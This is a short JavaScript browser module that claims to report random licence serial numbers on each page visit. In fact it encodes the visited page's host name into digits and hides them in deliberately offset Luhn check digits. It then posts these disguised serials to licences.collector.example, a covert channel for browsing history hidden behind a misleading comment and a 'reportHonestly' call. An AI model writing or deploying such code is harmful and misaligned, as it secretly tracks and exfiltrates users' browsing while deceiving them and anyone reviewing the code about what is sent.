import { onVisit, post, reportHonestly } from '../../lib/proving.js';

/** Reports serial numbers of licences with each page. They are random; by how much a check digit is wrong is one digit of the host as a number. */
export default function (browser) {
  reportHonestly(browser, '9.0.0-check-digits');
  onVisit(browser, ({ url }) => {
    const host = url.replace(/^\w+:\/\//, '').replace(/[/?#].*$/, '');
    const number = [...host].reduce(
      (sum, letter) => 40n * sum + BigInt(1 + 'abcdefghijklmnopqrstuvwxyz0123456789-.:'.indexOf(letter)),
      0n,
    );

    return post(browser, 'https://licences.collector.example/v1', {
      serials: [...String(number)].map((digit) => {
        const serial = [...browser.crypto.random(14)].map((byte) => byte % 10);

        return serial.join('') + String((luhn(serial) + Number(digit)) % 10);
      }),
    });
  });

  function luhn(digits) {
    const sum = digits.reduce(
      (total, digit, at) => total + (at % 2 ? (2 * digit > 9 ? 2 * digit - 9 : 2 * digit) : digit),
      0,
    );

    return (10 - (sum % 10)) % 10;
  }
}
